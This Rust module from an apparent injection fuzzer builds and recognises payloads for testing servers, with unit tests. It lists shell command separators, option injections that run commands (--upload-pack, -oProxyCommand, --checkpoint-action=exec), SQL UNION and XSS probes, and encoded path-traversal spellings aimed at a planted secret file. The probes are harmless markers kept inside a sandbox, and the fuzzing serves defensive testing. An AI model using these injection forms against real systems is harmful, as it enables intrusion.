//! Injection payloads, and recognizing them again in what was sent.
//!
//! Every payload carries its own proof, so that the injection oracle reports execution
//! only on evidence a payload's text does not contain: a product `A*B` (or a
//! concatenation of two numbers) that only evaluation produces, a marker file that only a
//! command or a write creates, or a canary token that only a read of a planted file
//! yields. Reflection of the payload itself is never proof.
//!
//! A and B and the marker names come from a nonce that is new for every payload sent to
//! one child. Paths that need the sandbox's absolute location use the placeholders of
//! [`crate::sandbox`], which the session expands per child right before sending.
//!
//! [`render`] and [`recognize`] live side by side: the oracle recognizes exactly what the
//! grammar sends, and the tests check that every form renders into something recognized
//! as its own family. Nothing here knows a particular server.

use arbitrary::Arbitrary;

use crate::sandbox::{BASE_PLACEHOLDER, BASE_URL_PLACEHOLDER};

/// The start of every marker file name; the letter after it names the family.
pub const MARKER_PREFIX: &str = "mcpfuzz-";
/// The start of the function name in markup probes.
pub const MARKUP_NAME: &str = "mcpfuzz_x";

/// What a payload tries.
#[derive(Arbitrary, Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Family {
    /// Shell command injection.
    Shell,
    /// Argument or option injection into a subprocess.
    Option,
    /// Path traversal that reads a planted canary.
    PathRead,
    /// Path traversal that writes outside the root.
    PathWrite,
    /// Template or expression evaluation.
    Template,
    /// SQL injection.
    Sql,
    /// Markup reflected unescaped (information only).
    Markup,
}

impl Family {
    /// Every family.
    pub const ALL: [Family; 7] = [
        Family::Shell,
        Family::Option,
        Family::PathRead,
        Family::PathWrite,
        Family::Template,
        Family::Sql,
        Family::Markup,
    ];

    /// The name in signatures and evidence.
    pub fn as_str(self) -> &'static str {
        match self {
            Family::Shell => "shell",
            Family::Option => "option",
            Family::PathRead => "path-read",
            Family::PathWrite => "path-write",
            Family::Template => "template",
            Family::Sql => "sql",
            Family::Markup => "markup",
        }
    }

    /// The letter after [`MARKER_PREFIX`] in the marker files this family creates.
    fn marker_letter(self) -> Option<char> {
        match self {
            Family::Shell => Some('s'),
            Family::Option => Some('o'),
            Family::PathWrite => Some('w'),
            _ => None,
        }
    }

    fn of_marker_letter(letter: u8) -> Option<Family> {
        [Family::Shell, Family::Option, Family::PathWrite]
            .into_iter()
            .find(|family| family.marker_letter() == Some(char::from(letter)))
    }
}

/// One payload: its family, which form of it, which probe or destination, and whether
/// it follows the field's usual value (`test'; ...`) or stands alone.
#[derive(Arbitrary, Debug, Clone, Copy, PartialEq, Eq)]
pub struct PayloadPlan {
    /// The family.
    pub family: Family,
    /// The form within the family, modulo their number.
    pub form: u8,
    /// The probe (shell), canary route (read) or destination (write), modulo theirs.
    pub variant: u8,
    /// After the usual value instead of alone (paths always stand alone).
    pub append: bool,
}

impl PayloadPlan {
    /// A plan standing alone.
    pub const fn new(family: Family, form: u8, variant: u8) -> PayloadPlan {
        PayloadPlan {
            family,
            form,
            variant,
            append: false,
        }
    }
}

/// What the payload's proof of execution will be.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub enum Proof {
    /// Digits that only evaluation produces (a product or a concatenation).
    Digits(String),
    /// A marker file name that only a command or a write creates.
    Marker(String),
    /// A canary token: any outside canary's content in a reply.
    Canary,
    /// The markup itself, when it comes back unescaped (information only).
    Markup(String),
}

/// A payload found in a sent string.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Recognized {
    /// Its family.
    pub family: Family,
    /// What would prove it ran.
    pub proof: Proof,
}

/// Shell separators and substitutions; each takes a probe.
const SHELL_FORMS: &[&str] = &[";", "|", "&&", "||", "\n", "&", "$()", "``"];
/// The quoting contexts a shell payload breaks out of.
const QUOTES: &[&str] = &["", "'", "\""];

/// Options that name an output file or a command, as git, tar, curl, sort, ssh and
/// rsync take them; `{M}` is the marker path, `{T}` a command that creates it.
const OPTION_FORMS: &[&str] = &[
    "--output={M}",
    "-o{M}",
    "--output-file={M}",
    "--log-file={M}",
    "--outfile={M}",
    "-O{M}",
    "--output-document={M}",
    "--upload-pack={T}",
    "-oProxyCommand={T}",
    "--rsh={T}",
    "--checkpoint-action=exec={T}",
    "--to-command={T}",
];

/// Expression syntaxes of template engines and interpreters; `@E@` is `A*B`.
const TEMPLATE_FORMS: &[&str] = &[
    "{{@E@}}",
    "${@E@}",
    "#{@E@}",
    "<%= @E@ %>",
    "{@E@}",
    "[[${@E@}]]",
    "{{=@E@}}",
    "@(@E@)",
    "*{@E@}",
    "${{@E@}}",
    "%{@E@}",
    "{{ @E@ }}",
];

/// SQL injections; `{E}` is `A*B`, `{A}` and `{B}` the numbers alone.
const SQL_FORMS: &[&str] = &[
    "' UNION SELECT {E}--",
    "' UNION SELECT {E},NULL--",
    "' UNION SELECT {E},NULL,NULL--",
    "' UNION SELECT {E},NULL,NULL,NULL--",
    "\" UNION SELECT {E}--",
    "') UNION SELECT {E}--",
    "0 UNION SELECT {E}",
    "' UNION ALL SELECT {E}#",
    "'||'{A}'||'{B}'||'",
    "' UNION SELECT '{A}'||'{B}'--",
    "' UNION SELECT CONCAT('{A}','{B}')--",
    "' AND 1=0 UNION SELECT {E},{E}--",
    "';SELECT {E}--",
    "1 OR 1=1 UNION SELECT {E},NULL",
];

/// Markup probes; `{X}` is the function name.
const MARKUP_FORMS: &[&str] = &[
    "<script>{X}()</script>",
    "<img src=x onerror={X}()>",
    "<svg/onload={X}()>",
];

/// Canaries as a path from the root (`rel`) and from the base (`tail`).
const READ_TARGETS: &[(&str, &str)] = &[
    ("../secret.txt", "secret.txt"),
    ("../outside/secret.txt", "outside/secret.txt"),
    ("../root_old/secret.txt", "root_old/secret.txt"),
    ("../root-backup/secret.txt", "root-backup/secret.txt"),
    ("link.txt", "root/link.txt"),
    ("linked-dir/secret.txt", "root/linked-dir/secret.txt"),
];

/// Write destinations, never more than two levels above the root so that every write
/// lands inside the cell; `{N}` is the marker file name.
const WRITE_TARGETS: &[(&str, &str)] = &[
    ("../{N}", "{N}"),
    ("../../{N}", "../{N}"),
    ("../outside/{N}", "outside/{N}"),
    ("../root_old/{N}", "root_old/{N}"),
    ("linked-dir/{N}", "root/linked-dir/{N}"),
];

/// How many path forms [`path_form`] knows.
const PATH_FORMS: u8 = 17;

/// How many forms each family has (for seeds and tests).
pub fn forms(family: Family) -> usize {
    match family {
        Family::Shell => SHELL_FORMS.len() * QUOTES.len(),
        Family::Option => OPTION_FORMS.len(),
        Family::PathRead | Family::PathWrite => usize::from(PATH_FORMS),
        Family::Template => TEMPLATE_FORMS.len(),
        Family::Sql => SQL_FORMS.len(),
        Family::Markup => MARKUP_FORMS.len(),
    }
}

/// The two numbers and the marker suffix a nonce gives.
fn numbers(nonce: u64) -> (u64, u64, String) {
    // Both at least 31623, so the product has ten digits and never hides in short numbers.
    let a = 31_623 + nonce % 68_377;
    let b = 31_623 + (nonce >> 24) % 68_377;
    (a, b, format!("{:08x}", (nonce >> 32) as u32))
}

/// The payload text of `plan` with `nonce`; `base` is the field's usual value.
pub fn render(plan: &PayloadPlan, nonce: u64, base: &str) -> String {
    let (a, b, hex) = numbers(nonce);
    let product = format!("{a}*{b}");
    let marker = |family: Family| {
        let letter = family.marker_letter().expect("a marker family");
        format!("{BASE_PLACEHOLDER}/{MARKER_PREFIX}{letter}{hex}")
    };
    let pick = |count: usize, index: u8| usize::from(index) % count;
    let text = match plan.family {
        Family::Shell => {
            let form = pick(SHELL_FORMS.len() * QUOTES.len(), plan.form);
            let (separator, quote) = (
                SHELL_FORMS[form / QUOTES.len()],
                QUOTES[form % QUOTES.len()],
            );
            let probe = if plan.variant.is_multiple_of(2) {
                format!("echo $(({product}))")
            } else {
                format!("touch {}", marker(Family::Shell))
            };
            match separator {
                "$()" => format!("{quote}$({probe}){quote}"),
                "``" => format!("{quote}`{probe}`{quote}"),
                separator => format!("{quote}{separator}{probe} #"),
            }
        }
        Family::Option => OPTION_FORMS[pick(OPTION_FORMS.len(), plan.form)]
            .replace("{T}", &format!("touch {}", marker(Family::Option)))
            .replace("{M}", &marker(Family::Option)),
        Family::PathRead => {
            let (rel, tail) = READ_TARGETS[pick(READ_TARGETS.len(), plan.variant)];
            return path_form(plan.form, rel, tail);
        }
        Family::PathWrite => {
            let name = format!("{MARKER_PREFIX}w{hex}.txt");
            let (rel, tail) = WRITE_TARGETS[pick(WRITE_TARGETS.len(), plan.variant)];
            return path_form(
                plan.form,
                &rel.replace("{N}", &name),
                &tail.replace("{N}", &name),
            );
        }
        Family::Template => {
            TEMPLATE_FORMS[pick(TEMPLATE_FORMS.len(), plan.form)].replace("@E@", &product)
        }
        Family::Sql => SQL_FORMS[pick(SQL_FORMS.len(), plan.form)]
            .replace("{E}", &product)
            .replace("{A}", &a.to_string())
            .replace("{B}", &b.to_string()),
        Family::Markup => MARKUP_FORMS[pick(MARKUP_FORMS.len(), plan.form)]
            .replace("{X}", &format!("{MARKUP_NAME}{hex}")),
    };
    if plan.append {
        format!("{base}{text}")
    } else {
        text
    }
}

/// A path to `rel` (relative to the root; `tail` is the same place relative to the base)
/// in one of [`PATH_FORMS`] spellings that confinement checks often miss.
fn path_form(form: u8, rel: &str, tail: &str) -> String {
    let absolute = format!("{BASE_PLACEHOLDER}/{tail}");
    match form % PATH_FORMS {
        0 => rel.to_owned(),
        1 => format!("./{rel}"),
        2 => format!("docs/../{rel}"),
        3 => format!("../../../../../../../..{absolute}"),
        4 => absolute,
        5 => format!("file://{absolute}"),
        6 => rel.replace('/', "%2F"),
        7 => rel.replace("../", "%2e%2e%2f"),
        8 => rel.replace("../", "%252e%252e%252f"),
        9 => rel.replace('/', "\\"),
        10 => format!("{rel}\u{0}.png"),
        11 => rel.replace("../", "....//"),
        12 => rel.replace("../", "..%c0%af"),
        13 => format!("{BASE_URL_PLACEHOLDER}%2F{}", tail.replace('/', "%2F")),
        14 => format!("{BASE_PLACEHOLDER}/root/../{tail}"),
        15 => rel.replace('/', "//"),
        _ => rel.replace("../", "%2e%2e/"),
    }
}

/// Cheap test before [`recognize`]: whether `bytes` may hold a payload at all.
pub fn may_hold_payload(bytes: &[u8]) -> bool {
    const NEEDLES: &[&[u8]] = &[b"*", b"mcpfuzz", b"secret.txt", b"link", b"||", b"CONCAT("];
    NEEDLES
        .iter()
        .any(|needle| memchr::memmem::find(bytes, needle).is_some())
}

/// Every payload in one sent string, with its proof.
pub fn recognize(text: &str) -> Vec<Recognized> {
    let mut found = Vec::new();
    let bytes = text.as_bytes();
    // Markers: `mcpfuzz-` + family letter + 8 hex digits.
    for at in memchr::memmem::find_iter(bytes, MARKER_PREFIX.as_bytes()) {
        let rest = &bytes[at + MARKER_PREFIX.len()..];
        if let (Some(&letter), Some(hex)) = (rest.first(), rest.get(1..9)) {
            if let Some(family) = Family::of_marker_letter(letter) {
                if hex.iter().all(u8::is_ascii_hexdigit) {
                    let name = &text[at..at + MARKER_PREFIX.len() + 9];
                    found.push(Recognized {
                        family,
                        proof: Proof::Marker(name.to_owned()),
                    });
                }
            }
        }
    }
    // Markup: the whole probe, as rendered.
    for at in memchr::memmem::find_iter(bytes, MARKUP_NAME.as_bytes()) {
        let Some(hex) = text.get(at + MARKUP_NAME.len()..at + MARKUP_NAME.len() + 8) else {
            continue;
        };
        let name = format!("{MARKUP_NAME}{hex}");
        for form in MARKUP_FORMS {
            let probe = form.replace("{X}", &name);
            if text.contains(&probe) {
                found.push(Recognized {
                    family: Family::Markup,
                    proof: Proof::Markup(probe),
                });
            }
        }
    }
    // Computed digits: products and concatenations of two numbers.
    let digits = evaluated_digits(text);
    if !digits.is_empty() {
        let family = expression_family(text);
        found.extend(digits.into_iter().map(|digits| Recognized {
            family,
            proof: Proof::Digits(digits),
        }));
    }
    // Reads: a path that names a canary or the link to one.
    if ["secret.txt", "link.txt", "linked-dir"]
        .iter()
        .any(|name| text.contains(name))
    {
        found.push(Recognized {
            family: Family::PathRead,
            proof: Proof::Canary,
        });
    }
    found
}

/// Which family an expression payload belongs to, from its syntax.
fn expression_family(text: &str) -> Family {
    let upper = text.to_ascii_uppercase();
    if text.contains("$((") {
        Family::Shell
    } else if upper.contains("SELECT") || upper.contains("CONCAT(") || text.contains("'||'") {
        Family::Sql
    } else {
        Family::Template
    }
}

/// The digits that evaluating `A*B`, `'A'||'B'` or `CONCAT('A','B')` in `text` gives,
/// for numbers of five to nine digits.
fn evaluated_digits(text: &str) -> Vec<String> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let number_at = |at: usize| -> Option<(u64, usize)> {
        let len = bytes[at..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count();
        if !(5..=9).contains(&len) {
            return None;
        }
        Some((text[at..at + len].parse().ok()?, at + len))
    };
    let mut at = 0;
    while at < bytes.len() {
        if !bytes[at].is_ascii_digit() || (at > 0 && bytes[at - 1].is_ascii_digit()) {
            at += 1;
            continue;
        }
        let Some((a, end)) = number_at(at) else {
            at += 1;
            continue;
        };
        let rest = &text[end..];
        // `A*B`
        if let Some(after) = rest.strip_prefix('*') {
            if let Some((b, _)) = number_at(end + 1).filter(|_| !after.is_empty()) {
                out.push((u128::from(a) * u128::from(b)).to_string());
            }
        }
        // `A'||'B` and `A','B` (the inside of CONCAT('A','B')).
        for glue in ["'||'", "','"] {
            if let Some(after) = rest.strip_prefix(glue) {
                let start = end + glue.len();
                if after.as_bytes().first().is_some_and(u8::is_ascii_digit) {
                    if let Some((b, _)) = number_at(start) {
                        out.push(format!("{a}{b}"));
                    }
                }
            }
        }
        at = end;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn all_plans() -> Vec<PayloadPlan> {
        let mut plans = Vec::new();
        for family in Family::ALL {
            for form in 0..forms(family) as u8 {
                for variant in 0..6 {
                    plans.push(PayloadPlan::new(family, form, variant));
                }
            }
        }
        plans
    }

    #[test]
    fn every_rendered_payload_is_recognized_as_its_own_family() {
        for plan in all_plans() {
            let text = render(&plan, 0x1234_5678_9abc_def0, "base");
            let recognized = recognize(&text);
            assert!(
                recognized.iter().any(|r| r.family == plan.family),
                "{plan:?} rendered {text:?}, recognized {recognized:?}"
            );
            // Every payload that can prove anything names its proof exactly once.
            let proofs: Vec<&Proof> = recognized
                .iter()
                .filter(|r| r.family == plan.family)
                .map(|r| &r.proof)
                .collect();
            assert!(!proofs.is_empty());
        }
    }

    #[test]
    fn shell_payloads_break_out_of_each_quote() {
        let nonce = 7;
        let (a, b, hex) = numbers(nonce);
        let echo = |form| render(&PayloadPlan::new(Family::Shell, form, 0), nonce, "");
        assert_eq!(echo(0), format!(";echo $(({a}*{b})) #"));
        assert_eq!(echo(1), format!("';echo $(({a}*{b})) #"));
        assert_eq!(echo(2), format!("\";echo $(({a}*{b})) #"));
        let touch = render(&PayloadPlan::new(Family::Shell, 19, 1), nonce, "");
        assert_eq!(
            touch,
            format!("'$(touch {{{{mcpfuzz:base}}}}/mcpfuzz-s{hex})'")
        );
        let appended = PayloadPlan {
            append: true,
            ..PayloadPlan::new(Family::Shell, 0, 0)
        };
        assert!(render(&appended, nonce, "test").starts_with("test;echo"));
    }

    #[test]
    fn products_have_ten_digits_and_differ_per_nonce() {
        for nonce in [0u64, 1, u64::MAX, 0xdead_beef] {
            let (a, b, hex) = numbers(nonce);
            assert!((a * b).to_string().len() >= 10, "{a}*{b}");
            assert_eq!(hex.len(), 8);
        }
        assert_ne!(numbers(1).0, numbers(2).0);
    }

    #[test]
    fn templates_and_sql_render_their_expression() {
        let (a, b, _) = numbers(3);
        let template = render(&PayloadPlan::new(Family::Template, 0, 0), 3, "");
        assert_eq!(template, format!("{{{{{a}*{b}}}}}"));
        let concat = render(&PayloadPlan::new(Family::Sql, 8, 0), 3, "");
        assert_eq!(concat, format!("'||'{a}'||'{b}'||'"));
        assert_eq!(
            recognize(&concat),
            vec![Recognized {
                family: Family::Sql,
                proof: Proof::Digits(format!("{a}{b}")),
            }]
        );
    }

    /// Resolves `path` lexically from the root `/c/work/root` of a cell `/c`.
    fn resolve(path: &str) -> String {
        let path = path.replace(BASE_PLACEHOLDER, "/c/work");
        let path = path.strip_prefix("file://").unwrap_or(&path);
        let mut parts: Vec<&str> = if path.starts_with('/') {
            Vec::new()
        } else {
            vec!["c", "work", "root"]
        };
        for part in path.split('/') {
            match part {
                "" | "." => {}
                ".." => {
                    parts.pop();
                }
                part => parts.push(part),
            }
        }
        format!("/{}", parts.join("/"))
    }

    #[test]
    fn writes_land_outside_the_root_but_inside_the_cell() {
        for form in 0..PATH_FORMS {
            for variant in 0..WRITE_TARGETS.len() as u8 {
                let text = render(&PayloadPlan::new(Family::PathWrite, form, variant), 9, "");
                if ["%", "\\", "....", "\u{0}"]
                    .iter()
                    .any(|odd| text.contains(odd))
                {
                    continue;
                }
                let resolved = resolve(&text);
                let resolved = resolved.replace("/root/linked-dir/", "/outside/");
                assert!(resolved.starts_with("/c/"), "{text} -> {resolved}");
                assert!(
                    !resolved.starts_with("/c/work/root/"),
                    "{text} -> {resolved}"
                );
            }
        }
        let absolute = render(&PayloadPlan::new(Family::PathRead, 4, 2), 0, "");
        assert_eq!(absolute, "{{mcpfuzz:base}}/root_old/secret.txt");
    }

    #[test]
    fn plain_text_is_not_a_payload() {
        for text in [
            "hello",
            "3*4",
            "12345",
            "a'||'b",
            "2024-01-01",
            "x*y",
            "1234*5",
        ] {
            assert_eq!(recognize(text), vec![], "{text}");
        }
        assert_eq!(evaluated_digits("12345*67890"), vec!["838102050"]);
        assert_eq!(
            evaluated_digits("CONCAT('12345','67890')"),
            vec!["1234567890"]
        );
    }
}
